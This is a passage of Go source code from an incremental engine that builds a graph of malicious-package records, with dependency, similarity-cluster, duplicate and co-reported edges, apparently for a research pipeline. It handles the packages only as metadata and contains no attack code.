	// of the DirtyEcoItems artifacts in the touched ecosystems, only the
	// ArtifactsReclustered inside PartitionsReclustered LSH partitions were
	// actually re-clustered — the gap is the O(ecosystem) work the partition
	// scoping avoided.
	PartitionsReclustered int
	ArtifactsReclustered  int
	DirtyEcoItems         int
	// Edge deltas by type (coexisting counts the net effect of a rebuild).
	DuplicatedDelta int
	DependencyDelta int
	SimilarDelta    int
	CoexistingDelta int
	// Report-join scope accounting for the §III-D co-existing stage:
	// ReportsRejoined counts previously joined reports re-joined this batch
	// (because a package they name arrived, or a late report overlapped
	// their groups); CoexistingEdgesReplaced counts edges surgically removed
	// for re-derivation (first-writer ownership repairs plus hub-and-path
	// group replacements). CoexistingScoped reports that the scoped re-join
	// machinery ran; CoexistingRebuilt that the stage fell back to a full
	// re-derivation (only when the scope would have covered most of the
	// corpus — see applyCoexisting).
	ReportsRejoined         int
	CoexistingEdgesReplaced int
	CoexistingScoped        bool
	CoexistingRebuilt       bool
}

// DatasetChanged reports whether the merged dataset differs from before the
// batch (RQ1 and validation inputs).
func (s IngestStats) DatasetChanged() bool { return s.NewEntries > 0 || s.UpdatedEntries > 0 }

// SimilarChanged reports whether similar clusters may differ (RQ2, Table XI,
// detection inputs).
func (s IngestStats) SimilarChanged() bool { return len(s.Reclustered) > 0 }

// DependencyChanged reports whether dependency edges were added (RQ3 inputs).
func (s IngestStats) DependencyChanged() bool { return s.DependencyDelta != 0 }

// CoexistingChanged reports whether co-existing edges or the report corpus
// changed (RQ4 inputs).
func (s IngestStats) CoexistingChanged() bool {
	return s.CoexistingRebuilt || s.CoexistingScoped || s.NewReports > 0
}

// ecoShard is one ecosystem's slice of the engine state. The §III edge
// families the shard feeds (duplicated record cliques aside, which are
// per-entry) never cross ecosystems: dependency names resolve within one
// registry, and similar clusters are computed per ecosystem. That
// independence is what lets Ingest plan every shard of a batch in parallel
// (see planShard) — each shard mutates only its own indexes and emits a
// pure plan of graph operations, which a serial commit phase applies in
// sorted-ecosystem order so the result is deterministic under any
// GOMAXPROCS.
type ecoShard struct {
	// Corpus dictionary (§III-C): name → canonical node IDs, and the name
	// set. Both grow monotonically.
	byName map[string][]string
	corpus map[string]bool
	// Reverse import index: imported name → canonical node IDs of the
	// already-scanned fronts importing it (self-name imports excluded).
	importers map[string][]string
	// importsOf caches each scanned artifact's manifest+source import names.
	importsOf map[string][]string

	// items caches the §III-B per-artifact products, sorted by node ID (the
	// order a one-shot Build clusters in).
	items []textsim.Item
	// flat caches the shard's flattened cluster list between ingests so a
	// dirty batch re-copies only the suffix from the first changed partition
	// key onward instead of rebuilding the whole list (see flattenLocked).
	flat flatClusters
	// lsh partitions the shard's items by verified band-candidate
	// connectivity under cfg.Cluster (LSHBands, Threshold) — the unit of
	// incremental re-clustering. Partition identity is content-derived
	// (canonical key = smallest member node ID), so any batch order
	// reproduces the same partitions.
	lsh *textsim.LSHIndex
	// clustersByPart caches each partition's surviving clusters by its
	// canonical key; flattening the map in key order yields the ecosystem's
	// cluster list exactly as a one-shot build derives it.
	clustersByPart map[string][]textsim.Cluster

	// Segmented-checkpoint dirty state, populated only while the engine has
	// a content store attached (Engine.track non-nil). Each shard is owned
	// by one goroutine during the parallel plan phase, so these need no
	// locking beyond the engine mutex the commit phase already holds.
	newItems     []textsim.Item
	dirtyImports map[string]bool
	dirtyParts   map[string]bool
	delParts     map[string]bool
}

// markImportDirty records that front's import scan changed since the last
// checkpoint. Only called while tracking is enabled.
func (sh *ecoShard) markImportDirty(front string) {
	if sh.dirtyImports == nil {
		sh.dirtyImports = make(map[string]bool)
	}
	sh.dirtyImports[front] = true
}

// markPartSet records a partition cache write; a later delete supersedes it.
func (sh *ecoShard) markPartSet(key string) {
	if sh.dirtyParts == nil {
		sh.dirtyParts = make(map[string]bool)
	}
	sh.dirtyParts[key] = true
	delete(sh.delParts, key)
}

// markPartDel records a partition cache delete; a later write supersedes it.
func (sh *ecoShard) markPartDel(key string) {
	if sh.delParts == nil {
		sh.delParts = make(map[string]bool)
	}
	sh.delParts[key] = true
	delete(sh.dirtyParts, key)
}

func newEcoShard() *ecoShard {
	return &ecoShard{
		byName:         make(map[string][]string),
		corpus:         make(map[string]bool),
		importers:      make(map[string][]string),
		importsOf:      make(map[string][]string),
		clustersByPart: make(map[string][]textsim.Cluster),
	}
}

// Engine maintains MALGRAPH incrementally across Ingest batches.
type Engine struct {
	mu  sync.Mutex
	cfg Config
	mg  *MalGraph

	embedder *textsim.Embedder
	scanner  *depscan.Scanner

	// shards holds the per-ecosystem state (corpus dictionaries, import
	// indexes, clustering caches); see ecoShard. Created on first use.
	// guarded by mu.
	shards map[ecosys.Ecosystem]*ecoShard
	// clusterScratch pools the clustering kernels' buffers across ingests,
	// one Scratch per re-clustering worker.
	clusterScratch sync.Pool

	// Incremental report-join index (§III-D). reportByURL dedupes reports
	// and resolves posting-list URLs back to documents. posting maps every
	// coordinate key any ingested report names — whether or not the package
	// has been observed yet — to the URL-sorted list of reports naming it,
	// so a wanted package arriving re-joins exactly those reports.
	// coexOwner records, per co-existing edge (pair key, endpoints sorted),
	// the URL of the report that owns its attrs: the URL-smallest report
	// covering the pair, i.e. the first writer of a one-shot build's
	// URL-ordered join. All three are persisted in snapshots (v3), so a
	// restored engine's first wanted-package ingest is scoped too.
	reportByURL map[string]*reports.Report // guarded by mu
	posting     map[string][]string        // guarded by mu
	coexOwner   map[string]string          // guarded by mu

	// appliedSeq is the durable ingest sequence stamp: the WAL sequence of
	// the last journaled batch applied to this engine. Snapshots carry it
	// (v4) so recovery replays only the journal suffix the checkpoint does
	// not already contain. The engine itself never bumps it — the pipeline
	// that owns the journal does, via SetAppliedSeq before Snapshot.
	// guarded by mu.
	appliedSeq uint64
	// feedPos is the companion stamp for the simulated feed: how many feed
	// batches the pipeline had ingested when the snapshot was taken. Without
	// it, a checkpoint that truncates the journal would lose the feed cursor
	// (feed records only live in the journal) and a restarted server would
	// re-report every batch as pending. guarded by mu.
	feedPos int

	// Segmented persistence (snapshot v5). When a content store is attached,
	// Snapshot writes a small manifest plus delta chunks into the store —
	// O(changes since the last checkpoint) — instead of re-serialising the
	// corpus; without one, Snapshot keeps emitting the monolithic v4 stream.
	store *castore.Store // guarded by mu
	// track records the dirty keys of every delta-logged section since the
	// last checkpoint; non-nil exactly when store is. guarded by mu.
	track *tracker
	// logs holds each section's durable chunk references (the manifest's
	// pointer lists) plus the accounting the re-base policy reads.
	// guarded by mu.
	logs map[string]*sectionLog
	// artifactRefs caches, per coordinate key, the durable blob holding the
	// entry's artifact — populated only after the blob's segment is fsynced,
	// so a cached ref always resolves. guarded by mu.
	artifactRefs map[string]artifactRef
}

// SetAppliedSeq records the durable ingest sequence the engine's state now
// reflects; Snapshot persists it.
func (e *Engine) SetAppliedSeq(seq uint64) {
	e.mu.Lock()
	defer e.mu.Unlock()
	e.appliedSeq = seq
}

// AppliedSeq returns the durable ingest sequence restored from the last
// snapshot (0 for a cold engine): journal records at or below it are
// already part of this engine's state.
func (e *Engine) AppliedSeq() uint64 {
	e.mu.Lock()
	defer e.mu.Unlock()
	return e.appliedSeq
}

// SetFeedPos records the feed cursor (batches ingested) alongside the
// sequence stamp; Snapshot persists it.
func (e *Engine) SetFeedPos(n int) {
	e.mu.Lock()
	defer e.mu.Unlock()
	e.feedPos = n
}

// FeedPos returns the feed cursor restored from the last snapshot (0 for a
// cold engine).
func (e *Engine) FeedPos() int {
	e.mu.Lock()
	defer e.mu.Unlock()
	return e.feedPos
}

// NewEngine creates an empty engine. Zero-valued config falls back to the
// paper's parameters, as Build does.
func NewEngine(cfg Config) *Engine {
	if cfg.PairwiseLimit <= 0 {
		cfg = DefaultConfig()
	}
	return &Engine{
		cfg: cfg,
		mg: &MalGraph{
			G:                graph.New(),
			Dataset:          collect.NewResult(time.Time{}),
			SimilarClusters:  make(map[ecosys.Ecosystem][]textsim.Cluster),
			ReportsByPackage: make(map[string][]*reports.Report),
			entryByID:        make(map[string]*collect.Entry),
		},
		embedder:    textsim.NewEmbedder(cfg.Embed),
		scanner:     depscan.NewScanner(),
		shards:      make(map[ecosys.Ecosystem]*ecoShard),
		reportByURL: make(map[string]*reports.Report),
		posting:     make(map[string][]string),
		coexOwner:   make(map[string]string),
	}
}

// shard returns the ecosystem's shard, creating it on first use.
func (e *Engine) shardLocked(eco ecosys.Ecosystem) *ecoShard {
	sh := e.shards[eco]
	if sh == nil {
		sh = newEcoShard()
		e.shards[eco] = sh
	}
	return sh
}

// Config returns the engine's effective configuration.
func (e *Engine) Config() Config { return e.cfg }

// Graph returns the live MALGRAPH. The graph store itself is safe for
// concurrent reads; a concurrent Ingest may be observed mid-batch.
func (e *Engine) Graph() *MalGraph { return e.mg }

// Dataset returns the merged dataset the engine has ingested so far.
func (e *Engine) Dataset() *collect.Result { return e.mg.Dataset }

// Reports returns the merged, URL-sorted report corpus.
func (e *Engine) Reports() []*reports.Report { return e.mg.Reports }

// View returns an immutable snapshot of the engine's read state — the
// MalGraph an epoch-published read path serves from while Ingest keeps
// writing. Containers are copied (graph via graph.Clone, dataset via
// collect.Result.View, the report slice and index maps by value); leaves
// are shared where the writer provably never mutates them in place:
// dataset entries (Upsert replaces changed entries), reports (first crawl
// wins), per-ecosystem cluster slices (re-clustering replaces the flat
// list wholesale) and per-package report lists (indexReportForPackage
// copy-inserts). Cost is O(corpus) pointer copies, paid once per publish
// by the writer.
func (e *Engine) View() *MalGraph {
	e.mu.Lock()
	defer e.mu.Unlock()
	mg := e.mg
	v := &MalGraph{
		G:                mg.G.Clone(),
		Dataset:          mg.Dataset.View(),
		Reports:          make([]*reports.Report, len(mg.Reports)),
		SimilarClusters:  make(map[ecosys.Ecosystem][]textsim.Cluster, len(mg.SimilarClusters)),
		ReportsByPackage: make(map[string][]*reports.Report, len(mg.ReportsByPackage)),
		entryByID:        make(map[string]*collect.Entry, len(mg.entryByID)),
	}
	copy(v.Reports, mg.Reports)
	for eco, cs := range mg.SimilarClusters {
		v.SimilarClusters[eco] = cs
	}
	for id, lst := range mg.ReportsByPackage {
		v.ReportsByPackage[id] = lst
	}
	for id, en := range mg.entryByID {
		v.entryByID[id] = en
	}
	return v
}

// entryChange tracks what one batch entry did to the merged dataset.
type entryChange struct {
	entry       *collect.Entry
	isNew       bool
	newArtifact bool
	newSources  []sources.ID // sources not present before the batch
}

// Ingest merges one batch of entries and reports into MALGRAPH. Cost is
// O(batch + dirty-ecosystem clustering + report re-join), not O(corpus).
func (e *Engine) Ingest(b Batch) (IngestStats, error) {
	e.mu.Lock()
	defer e.mu.Unlock()
	var st IngestStats

	if e.mg.Dataset.CollectedAt.IsZero() && !b.At.IsZero() {
		e.mg.Dataset.CollectedAt = b.At
	}
	changes := e.mergeEntries(b.Entries, &st)
	if b.Stats != nil {
		// Exact per-entry accounting: one Total per newly observed
		// (source, package) pair, and the delta between each entry's
		// recorded stat and the batch's absolute stat. Idempotent under
		// replay (identical stat ⇒ zero delta) and exact when several
		// batches extend the same coordinate.
		for _, ch := range changes {
			e.mg.Dataset.AddTotals(ch.newSources)
		}
		for _, ch := range changes {
			key := ch.entry.Coord.Key()
			if next, ok := b.Stats[key]; ok {
				e.mg.Dataset.ApplyEntryStat(key, next)
			}
		}
	} else if st.NewEntries > 0 || st.UpdatedEntries > 0 {
		// Legacy aggregate path: a batch's PerSource is the accounting its
		// entries contributed to the collection. Batches are disjoint under
		// the partition contract, so the stats apply exactly once — when
		// the batch actually introduces entries. A fully replayed batch
		// (warm-restart feed drain) merges zero entries and must not
		// re-add its accounting.
		e.mg.Dataset.AddSourceStats(b.PerSource)
	}
	if err := e.applyNodes(changes, &st); err != nil {
		return st, fmt.Errorf("core ingest nodes: %w", err)
	}
	// Shard phase: the batch's per-ecosystem slices plan their dependency
	// and similar updates in parallel (each shard owns its indexes and emits
	// graph operations without touching the graph); the commit phase then
	// applies every plan serially in sorted-ecosystem order, so the edge
	// insertion sequence — and the serialized graph — is identical under any
	// GOMAXPROCS.
	if err := e.applyShardsLocked(changes, &st); err != nil {
		return st, err
	}
	if err := e.applyCoexistingLocked(b.Reports, changes, &st); err != nil {
		return st, fmt.Errorf("core ingest coexisting: %w", err)
	}
	return st, nil
}

func (e *Engine) mergeEntries(entries []*collect.Entry, st *IngestStats) []entryChange {
	// One batched upsert: new coordinates are spliced into the key-sorted
	// dataset with a single merge instead of an O(corpus) shift per entry.
	results := e.mg.Dataset.UpsertBatch(entries)
	changes := make([]entryChange, 0, len(results))
	for _, ur := range results {
		if !ur.Added && !ur.Changed {
			continue
		}
		merged := ur.Entry
		ch := entryChange{
			entry:       merged,
			isNew:       ur.Added,
			newArtifact: merged.Artifact != nil && !ur.PrevArtifact,
		}
		for _, s := range merged.Sources {
			if ur.Added || !containsSource(ur.PrevSources, s) {
				ch.newSources = append(ch.newSources, s)
			}
		}
		if ur.Added {
			st.NewEntries++
		} else {
			st.UpdatedEntries++
		}
		if ch.newArtifact {
			st.NewArtifacts++
		}
		e.mg.entryByID[NodeID(merged.Coord)] = merged
		if e.track != nil {
			e.track.entries[merged.Coord.Key()] = true
		}
		changes = append(changes, ch)
	}
	return changes
}

// applyNodes inserts or refreshes canonical and record nodes and appends the
// duplicated-edge cliques (§III-A).
func (e *Engine) applyNodes(changes []entryChange, st *IngestStats) error {
	before := e.mg.G.EdgeCount(graph.Duplicated)
	for _, ch := range changes {
		en := ch.entry
		id := NodeID(en.Coord)
		attrs := canonicalAttrs(en)
		if ch.isNew {
			if err := e.mg.G.AddNode(id, attrs); err != nil {
				return err
			}
		} else {
			for k, v := range attrs {
				if err := e.mg.G.SetAttr(id, k, v); err != nil {
					return err
				}
			}
		}
		for _, s := range ch.newSources {
			recAttrs := graph.Attrs{
				"kind":      "record",
				"name":      en.Coord.Name,
				"version":   en.Coord.Version,
				"ecosystem": en.Coord.Ecosystem.String(),
				"source":    strconv.Itoa(int(s)),
			}
			if en.Artifact != nil {
				recAttrs["hash"] = en.Artifact.Hash()
			}
			if err := e.mg.G.AddNode(RecordNodeID(s, en.Coord), recAttrs); err != nil {
				return err
			}
		}
		if ch.newArtifact && !ch.isNew {
			// Late-arriving artifact: stamp the hash on pre-existing records
			// and drop the entry's duplicated edges so the clique below
			// re-derives them with the hash-confirmed match attr — what a
			// one-shot build of the merged corpus would have produced.
			for _, s := range en.Sources {
				if err := e.mg.G.SetAttr(RecordNodeID(s, en.Coord), "hash", en.Artifact.Hash()); err != nil {
					return err
				}
			}
			suffix := "|" + en.Coord.Key()
			e.mg.G.RemoveEdgesWhere(graph.Duplicated, func(ed graph.Edge) bool {
				return strings.HasSuffix(ed.From, suffix)
			})
		}
		if len(en.Sources) >= 2 {
			dupAttrs := graph.Attrs{"match": "name+version"}
			if en.Artifact != nil {
				dupAttrs["match"] = "name+version+hash"
			}
			recIDs := make([]string, len(en.Sources))
			for i, s := range en.Sources {
				recIDs[i] = RecordNodeID(s, en.Coord)
			}
			for i := 0; i < len(recIDs); i++ {
				for j := i + 1; j < len(recIDs); j++ {
					if err := e.mg.G.AddEdge(recIDs[i], recIDs[j], graph.Duplicated, dupAttrs); err != nil {
						return err
					}
				}
			}
		}
	}
	st.DuplicatedDelta = e.mg.G.EdgeCount(graph.Duplicated) - before
	return nil
}

func canonicalAttrs(en *collect.Entry) graph.Attrs {
	attrs := graph.Attrs{
		"kind":      "package",
		"name":      en.Coord.Name,
		"version":   en.Coord.Version,
		"ecosystem": en.Coord.Ecosystem.String(),
		"avail":     en.Availability.String(),
		"occ":       strconv.Itoa(en.OccurrenceCount()),
	}
	if en.Artifact != nil {
		attrs["hash"] = en.Artifact.Hash()
	}
	ids := make([]string, 0, len(en.Sources))
	for _, s := range en.Sources {
		ids = append(ids, strconv.Itoa(int(s)))
	}
	attrs["sources"] = strings.Join(ids, ",")
	return attrs
}

// plannedEdge is one graph edge a shard plan asks the commit phase to
// insert.
type plannedEdge struct {
	from, to string
	attrs    graph.Attrs
}

// plannedGroup is one similar cluster the commit phase connects
// (connectGroup semantics: clique up to PairwiseLimit, hub-and-path beyond).
type plannedGroup struct {
	members []string
	attrs   graph.Attrs
}

// shardPlan is the pure output of one ecosystem's shard phase: every graph
// mutation the shard wants, plus the recluster-scope accounting, with no
// graph access of its own. Plans are committed serially in sorted-ecosystem
// order.
type shardPlan struct {
	eco ecosys.Ecosystem
	err error

	// §III-C dependency edges (forward links from scanned fronts and
	// backward links from waiting importers, in shard-deterministic order).
	depEdges []plannedEdge

	// §III-B similar-family replacement: drop every similar edge incident
	// to dirtyMembers, then connect groups. clusters is the ecosystem's
	// re-derived flat cluster list.
	reclustered  bool
	dirtyMembers []string
	groups       []plannedGroup
	clusters     []textsim.Cluster
	partitions   int
	artifacts    int
	dirtyItems   int
}

// applyShards runs the batch's per-ecosystem slices through the parallel
// shard phase and commits the resulting plans serially.
func (e *Engine) applyShardsLocked(changes []entryChange, st *IngestStats) error {
	byEco := make(map[ecosys.Ecosystem][]entryChange)
	for _, ch := range changes {
		eco := ch.entry.Coord.Ecosystem
		byEco[eco] = append(byEco[eco], ch)
	}
	ecos := make([]ecosys.Ecosystem, 0, len(byEco))
	for eco := range byEco {
		ecos = append(ecos, eco)
	}
	sort.Slice(ecos, func(i, j int) bool { return ecos[i] < ecos[j] })

	// Materialize every shard before the fan-out: shardLocked writes the
	// shared shards map on first use, which must not happen from inside
	// the parallel phase.
	for _, eco := range ecos {
		e.shardLocked(eco)
	}

	// Shard phase: each ecosystem's slice plans in parallel. A shard only
	// touches its own ecoShard state (no two goroutines share one), the
	// now-read-only shards map and the read-only scanner/embedder, so the
	// fan-out is race-free; per-shard work is itself deterministic
	// (order-preserving inner maps, sorted partition keys, content-derived
	// RNG streams), so the plans are byte-identical under any worker count.
	plans := parallel.Map(len(ecos), func(i int) *shardPlan {
		return e.planShardLocked(ecos[i], byEco[ecos[i]])
	})

	// Commit phase: serial, sorted-ecosystem order.
	depBefore := e.mg.G.EdgeCount(graph.Dependency)
	simBefore := e.mg.G.EdgeCount(graph.Similar)
	for _, plan := range plans {
		if plan.err != nil {
			return fmt.Errorf("core ingest %s shard: %w", plan.eco, plan.err)
		}
		for _, pe := range plan.depEdges {
			if err := e.mg.G.AddEdge(pe.from, pe.to, graph.Dependency, pe.attrs); err != nil {
				return err
			}
		}
		if !plan.reclustered {
			continue
		}
		// Clusters never span partitions, so every stale similar edge is
		// incident to a dirty partition member; drop exactly those, leaving
		// all other partitions' edges (and adjacency indexes) untouched.
		e.mg.G.RemoveEdgesIncident(graph.Similar, plan.dirtyMembers)
		for _, grp := range plan.groups {
			if err := e.mg.connectGroup(grp.members, graph.Similar, grp.attrs, e.cfg.PairwiseLimit); err != nil {
				return err
			}
		}
		e.mg.SimilarClusters[plan.eco] = plan.clusters
		st.Reclustered = append(st.Reclustered, plan.eco)
		st.PartitionsReclustered += plan.partitions
		st.ArtifactsReclustered += plan.artifacts
		st.DirtyEcoItems += plan.dirtyItems
	}
	st.DependencyDelta = e.mg.G.EdgeCount(graph.Dependency) - depBefore
	st.SimilarDelta = e.mg.G.EdgeCount(graph.Similar) - simBefore
	return nil
}

// planShard runs one ecosystem's shard phase: grow the corpus dictionary,
// scan and link dependencies (§III-C), embed and re-cluster the dirty LSH
// partitions (§III-B) — mutating only the shard's own indexes and returning
// the graph operations for the serial commit.
func (e *Engine) planShardLocked(eco ecosys.Ecosystem, changes []entryChange) *shardPlan {
	sh := e.shardLocked(eco)
	plan := &shardPlan{eco: eco}

	// Dependency 1: grow the corpus dictionary with every new entry
	// (missing packages are legitimate dependency targets — names survive
	// takedown).
	for _, ch := range changes {
		if !ch.isNew {
			continue
		}
		name := ch.entry.Coord.Name
		sh.byName[name] = append(sh.byName[name], NodeID(ch.entry.Coord))
		sh.corpus[name] = true
	}
	// Dependency 2: scan new artifacts (parallel, order-preserving) and
	// link forward.
	newArts := artifactChanges(changes)
	type scanResult struct {
		deps []string
		err  error
	}
	scans := parallel.Map(len(newArts), func(i int) scanResult {
		en := newArts[i].entry
		manifest, err := e.scanner.FromManifest(en.Artifact)
		if err != nil {
			return scanResult{err: err}
		}
		imported := depscan.ExtractImports(en.Artifact)
		seen := make(map[string]bool, len(manifest)+len(imported))
		deps := make([]string, 0, len(manifest)+len(imported))
		for _, list := range [][]string{manifest, imported} {
			for _, d := range list {
				if d == en.Coord.Name || seen[d] {
					continue
				}
				seen[d] = true
				deps = append(deps, d)
			}
		}
		sort.Strings(deps)
		return scanResult{deps: deps}
	})
	for i, ch := range newArts {
		if scans[i].err != nil {
			plan.err = fmt.Errorf("dep scan %s: %w", ch.entry.Coord, scans[i].err)
			return plan
		}
		front := NodeID(ch.entry.Coord)
		sh.importsOf[front] = scans[i].deps
		if e.track != nil {
			sh.markImportDirty(front)
		}
		for _, dep := range scans[i].deps {
			sh.importers[dep] = append(sh.importers[dep], front)
			for _, target := range sh.byName[dep] {
				if target == front {
					continue
				}
				plan.depEdges = append(plan.depEdges, plannedEdge{front, target, graph.Attrs{"dep": dep}})
			}
		}
	}
	// Dependency 3: link backward — earlier fronts waiting for a new name.
	for _, ch := range changes {
		if !ch.isNew {
			continue
		}
		name := ch.entry.Coord.Name
		target := NodeID(ch.entry.Coord)
		for _, front := range sh.importers[name] {
			if front == target {
				continue
			}
			plan.depEdges = append(plan.depEdges, plannedEdge{front, target, graph.Attrs{"dep": name}})
		}
	}

	// Similar: embed the new artifacts with the identical per-artifact
	// pipeline to a one-shot Build — tokenize once, share the hashed stream
	// between embedding and fingerprint, recycle buffers per worker.
	type scratch struct {
		tokens []string
		hashed []textsim.TokenHash
	}
	var pool sync.Pool
	items := parallel.Map(len(newArts), func(i int) textsim.Item {
		en := newArts[i].entry
		sc, _ := pool.Get().(*scratch)
		if sc == nil {
			sc = &scratch{}
		}
		defer pool.Put(sc)
		sc.tokens = textsim.TokenizeAppend(sc.tokens[:0], en.Artifact.MergedSource())
		sc.hashed = textsim.HashTokens(sc.tokens, sc.hashed)
		return textsim.Item{
			ID: NodeID(en.Coord),
			// Zero-tail trimming keeps the clustering kernels scanning only
			// occupied dimensions (most artifacts fill one snippet slot).
			Vector: textsim.TrimZeroTail(e.embedder.EmbedHashed(sc.hashed)),
			Hash:   textsim.SimHashHashed(sc.hashed),
		}
	})
	// One batched merge: the batch's new items are sorted and spliced into
	// the ID-sorted cache in a single pass instead of an O(items) shift per
	// insertion (the former insertItem loop the ROADMAP flagged).
	sh.items = mergeItems(sh.items, items)
	dirty := make([]string, 0, len(items))
	for _, it := range items {
		if sh.lsh == nil {
			sh.lsh = textsim.NewLSHIndex(e.cfg.Cluster)
		}
		sh.lsh.Add(it.ID, it.Hash, it.Vector)
		dirty = append(dirty, it.ID)
	}
	if e.track != nil {
		sh.newItems = append(sh.newItems, items...)
	}
	if len(dirty) == 0 {
		return plan
	}
	// Resolve the dirty partitions: where the new items landed after every
	// merge this batch caused. A partition key retired by a merge always
	// re-surfaces inside one of these (the merge was bridged by a new item),
	// so dropping its cached clusters loses nothing.
	for _, retiredKey := range sh.lsh.DrainRetired() {
		delete(sh.clustersByPart, retiredKey)
		sh.flat.invalidate(retiredKey)
		if e.track != nil {
			sh.markPartDel(retiredKey)
		}
	}
	type partJob struct {
		key   string
		items []textsim.Item
	}
	seen := make(map[string]bool)
	keys := make([]string, 0, len(dirty))
	for _, id := range dirty {
		key, ok := sh.lsh.Root(id)
		if !ok || seen[key] {
			continue
		}
		seen[key] = true
		keys = append(keys, key)
	}
	sort.Strings(keys)
	var jobs []partJob
	for _, key := range keys {
		members := sh.lsh.Members(key)
		pitems := make([]textsim.Item, 0, len(members))
		for _, id := range members {
			it, ok := sh.itemAt(id)
			if !ok {
				plan.err = fmt.Errorf("similar: partition %s references unknown item %s", key, id)
				return plan
			}
			pitems = append(pitems, it)
		}
		jobs = append(jobs, partJob{key: key, items: pitems})
		plan.dirtyMembers = append(plan.dirtyMembers, members...)
	}
	// Re-cluster dirty partitions concurrently. Each partition's items are
	// sorted by node ID and its RNG stream is derived from its canonical key
	// — both content-derived, so any batch order (and a one-shot Build)
	// computes identical clusters per partition.
	clustersByJob := parallel.Map(len(jobs), func(i int) []textsim.Cluster {
		sc, _ := e.clusterScratch.Get().(*textsim.Scratch)
		if sc == nil {
			sc = textsim.NewScratch()
		}
		defer e.clusterScratch.Put(sc)
		job := jobs[i]
		rng := xrand.New(e.cfg.Seed).Derive("similar/" + eco.String() + "/" + job.key)
		return textsim.ClusterItemsScratch(job.items, e.cfg.Cluster, rng, sc)
	})
	for i, job := range jobs {
		clusters := clustersByJob[i]
		sh.flat.invalidate(job.key)
		if len(clusters) == 0 {
			delete(sh.clustersByPart, job.key)
			if e.track != nil {
				sh.markPartDel(job.key)
			}
		} else {
			sh.clustersByPart[job.key] = clusters
			if e.track != nil {
				sh.markPartSet(job.key)
			}
		}
		for ci, cluster := range clusters {
			plan.groups = append(plan.groups, plannedGroup{
				members: cluster.Members,
				attrs: graph.Attrs{
					// Labels are partition-scoped so an untouched partition's
					// edge attrs stay valid verbatim across appends.
					"cluster":    job.key + "#" + strconv.Itoa(ci),
					"silhouette": fmt.Sprintf("%.3f", cluster.Silhouette),
				},
			})
		}
	}
	// Re-derive the flat cluster list in canonical partition-key order —
	// the order a one-shot build yields. The incremental flatten reuses the
	// prefix of the previous list before the first changed partition key.
	plan.reclustered = true
	plan.clusters = sh.flat.flatten(sh.clustersByPart)
	plan.partitions = len(jobs)
	plan.artifacts = len(plan.dirtyMembers)
	plan.dirtyItems = len(sh.items)
	return plan
}

// itemAt returns the cached clustering item for a node ID via binary search
// in the shard's ID-sorted item slice.
func (sh *ecoShard) itemAt(id string) (textsim.Item, bool) {
	i := sort.Search(len(sh.items), func(i int) bool { return sh.items[i].ID >= id })
	if i < len(sh.items) && sh.items[i].ID == id {
		return sh.items[i], true
	}
	return textsim.Item{}, false
}

// flatClusters incrementally maintains one ecosystem's flattened cluster
// list in canonical partition-key order. keys mirrors the partition map's
// sorted keys, offsets[i] is key i's first cluster index, and list is the
// flat slice published to SimilarClusters. A dirty batch reuses the prefix
// before the smallest invalidated key (shared backing array, copy-on-append
// so published views stay immutable) and re-flattens only the suffix —
// replacing the former full sort-and-copy per dirty ecosystem.
type flatClusters struct {
	keys    []string
	offsets []int
	list    []textsim.Cluster
	// firstDirty is the smallest partition key invalidated since the last
	// flatten; meaningful only while dirty. ready distinguishes a built
	// cache from the zero value (which must do a full build).
	firstDirty string
	dirty      bool
	ready      bool
}

// invalidate records that the partition's cached clusters changed (set,
// replaced or deleted).
func (f *flatClusters) invalidate(key string) {
	if !f.dirty || key < f.firstDirty {
		f.firstDirty = key
		f.dirty = true
	}
}

// flatten returns the ecosystem's flat cluster list for the current
// partition map, rebuilding only from the first invalidated key onward.
func (f *flatClusters) flatten(parts map[string][]textsim.Cluster) []textsim.Cluster {
	if f.ready && !f.dirty {
		return f.list
	}
	keep := 0
	if f.ready {
		keep = sort.SearchStrings(f.keys, f.firstDirty)
	}
	sufKeys := make([]string, 0, len(parts)-keep)
	for k := range parts {
		if f.ready && k < f.firstDirty {
			continue
		}
		sufKeys = append(sufKeys, k)
	}
	sort.Strings(sufKeys)
	cut := len(f.list)
	if keep < len(f.keys) {
		cut = f.offsets[keep]
	}
	next := f.list[:cut:cut]
	keys := append(f.keys[:keep:keep], sufKeys...)
	offsets := f.offsets[:keep:keep]
	for _, k := range sufKeys {
		offsets = append(offsets, len(next))
		next = append(next, parts[k]...)
	}
	f.keys, f.offsets, f.list = keys, offsets, next
	f.dirty, f.firstDirty, f.ready = false, "", true
	return f.list
}

// flattenClusters serialises a partition→clusters map into one deterministic
// per-ecosystem list, ordered by canonical partition key.
func flattenClusters(parts map[string][]textsim.Cluster) []textsim.Cluster {
	keys := make([]string, 0, len(parts))
	total := 0
	for k, cs := range parts {
		keys = append(keys, k)
		total += len(cs)
	}
	sort.Strings(keys)
	out := make([]textsim.Cluster, 0, total)
	for _, k := range keys {
		out = append(out, parts[k]...)
	}
	return out
}

// fullRejoinThreshold is the report-corpus size below which the full-rebuild
// fallback never triggers: re-joining a handful of reports is cheap either
// way, and small corpora (unit fixtures, early ingest) should exercise the
// scoped machinery, not bypass it.
const fullRejoinThreshold = 64

// applyCoexisting merges new reports and maintains the §III-D report-join
// stage through the incremental join index (posting lists + per-pair
// first-writer ownership). Both former corpus-wide triggers are scoped now:
//
//   - A newly ingested package some report was waiting for re-joins exactly
//     the reports in its posting list — their cliques gain the new member's
//     pairs, everything else is untouched.
//   - A late report (URL inside the ingested range) joins like any other;
//     pairs it covers that a larger-URL report currently owns are repaired
//     edge-by-edge (graph.RemoveEdge + re-insert with the smaller-URL
//     attrs), reproducing the one-shot URL-ordered join's first-writer
//     outcome.
//   - The only non-monotone case: a re-joined group that exceeds
//     PairwiseLimit emits a hub-and-path pair set that *changes shape* as
//     members arrive, so its members' co-existing edges are dropped
//     (graph.RemoveEdgesIncident, O(group degree)) and every report
//     overlapping those members re-joins — still scoped to the touched
//     groups.
//
// A full re-derivation survives only as a fallback when the scoped join list
// would cover more than half of a non-trivial corpus (> fullRejoinThreshold
// reports) — one pass is cheaper than surgical replacement at that point —
// and is reported via IngestStats.CoexistingRebuilt.
func (e *Engine) applyCoexistingLocked(newReports []*reports.Report, changes []entryChange, st *IngestStats) error {
	before := e.mg.G.EdgeCount(graph.Coexisting)

	// Wanted-package trigger: previously joined reports whose member set
	// grows this batch. Posting lists are read before the batch's own
	// reports merge into them, so the set holds only reports that genuinely
	// need a re-join — fresh reports are joined in full below anyway.
	rejoin := make(map[string]bool)
	for _, ch := range changes {
		if !ch.isNew {
			continue
		}
		for _, url := range e.posting[NodeID(ch.entry.Coord)] {
			rejoin[url] = true
		}
	}

